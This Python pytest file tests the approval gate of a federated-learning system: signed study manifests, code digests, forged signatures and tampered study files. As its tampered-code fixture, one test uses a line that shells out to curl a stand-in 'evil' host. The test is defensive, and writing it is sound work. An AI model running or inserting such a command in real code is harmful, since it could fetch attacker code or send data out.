"""A node runs only studies the admin signed and the site approved, with the code the site approved."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from client.approval import approvals_path, approve, check_run, read_approvals
from shared.approval import (
    CONSORTIUM_KEY,
    SIGNATURE_KEY,
    STUDY_B64_KEY,
    ApprovalError,
    RunManifest,
    code_digest_from_fab,
    encode_study,
    sign_manifest,
    study_digest,
)
from shared.config import load_site
from shared.paths import PROJECT_ROOT
from shared.pki import create_ca, issue_certificate

STUDY = PROJECT_ROOT / "studies" / "consortium-demo" / "study.toml"


def fab(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


CODE = {"client/app.py": b"print('train')\n", "server/app.py": b"print('aggregate')\n", "README.md": b"docs"}


@pytest.fixture(scope="module")
def admin():
    ca = create_ca("demo")
    return issue_certificate(ca, "demo admin", client=True)


@pytest.fixture()
def site(tmp_path: Path):
    path = tmp_path / "northeast.toml"
    data = PROJECT_ROOT / "data" / "tcga_brca" / "regions" / "northeast.csv"
    path.write_text(f'[site]\nname = "northeast"\n[data]\npath = "{data}"\nlabel = "E"\ntime = "T"\ndrop = ["pid"]\nsplit_column = "fold"\n')
    return load_site(path)


def run_config(admin, study_bytes: bytes, code: bytes, consortium: str = "demo") -> dict:
    manifest = RunManifest(consortium, study_digest(study_bytes), code_digest_from_fab(code))
    return {STUDY_B64_KEY: encode_study(study_bytes), SIGNATURE_KEY: sign_manifest(manifest, admin.key), CONSORTIUM_KEY: consortium}


def test_code_digest_ignores_zip_order_and_non_code_files() -> None:
    a = fab(CODE)
    b = fab({**dict(reversed(list(CODE.items()))), "README.md": b"other docs"})
    assert code_digest_from_fab(a) == code_digest_from_fab(b)
    assert code_digest_from_fab(fab({**CODE, "client/app.py": b"print('exfiltrate')\n"})) != code_digest_from_fab(a)


def test_approved_signed_run_passes(admin, site) -> None:
    study = STUDY.read_bytes()
    approval = approve(STUDY, site, code_digest_from_fab(fab(CODE)))
    assert approvals_path(site).exists() and read_approvals(approvals_path(site)) == [approval]
    assert check_run("northeast", "demo", run_config(admin, study, fab(CODE)), fab(CODE), admin.cert, [approval]) == approval


def test_changed_study_is_refused(admin, site) -> None:
    approval = approve(STUDY, site, code_digest_from_fab(fab(CODE)))
    changed = STUDY.read_bytes().replace(b"rounds = 3", b"rounds = 30")
    with pytest.raises(ApprovalError, match="has not approved this study file"):
        check_run("northeast", "demo", run_config(admin, changed, fab(CODE)), fab(CODE), admin.cert, [approval])


def test_changed_code_is_refused(admin, site) -> None:
    approval = approve(STUDY, site, code_digest_from_fab(fab(CODE)))
    other = fab({**CODE, "client/app.py": b"import os; os.system('curl evil')\n"})
    with pytest.raises(ApprovalError, match="has not approved this version of the fedhelix code"):
        check_run("northeast", "demo", run_config(admin, STUDY.read_bytes(), other), other, admin.cert, [approval])


def test_unsigned_or_forged_runs_are_refused(admin, site) -> None:
    approval = approve(STUDY, site, code_digest_from_fab(fab(CODE)))
    study = STUDY.read_bytes()
    with pytest.raises(ApprovalError, match="carries no signed study"):
        check_run("northeast", "demo", {STUDY_B64_KEY: encode_study(study)}, fab(CODE), admin.cert, [approval])
    impostor = issue_certificate(create_ca("demo"), "demo admin", client=True)  # same names, another CA's key
    with pytest.raises(ApprovalError, match="not signed by this consortium's admin"):
        check_run("northeast", "demo", run_config(impostor, study, fab(CODE)), fab(CODE), admin.cert, [approval])
    # A valid signature over one study does not cover another.
    forged = run_config(admin, study, fab(CODE))
    forged[STUDY_B64_KEY] = encode_study(study.replace(b"rounds = 3", b"rounds = 4"))
    with pytest.raises(ApprovalError, match="not signed by this consortium's admin"):
        check_run("northeast", "demo", forged, fab(CODE), admin.cert, [approval])
    with pytest.raises(ApprovalError, match="submitted for consortium 'other'"):
        check_run("northeast", "demo", run_config(admin, study, fab(CODE), consortium="other"), fab(CODE), admin.cert, [approval])


def test_corrupt_approvals_file_is_a_clear_error(site) -> None:
    from shared.errors import ConfigError

    approvals_path(site).write_text("{not json")
    with pytest.raises(ConfigError, match="unreadable"):
        read_approvals(approvals_path(site))


def test_gate_targets_exist_in_the_installed_flower() -> None:
    from flwr.supernode import start_client_internal as sci

    from client import node_gate

    assert all(hasattr(sci, name) for name in node_gate._TARGETS)
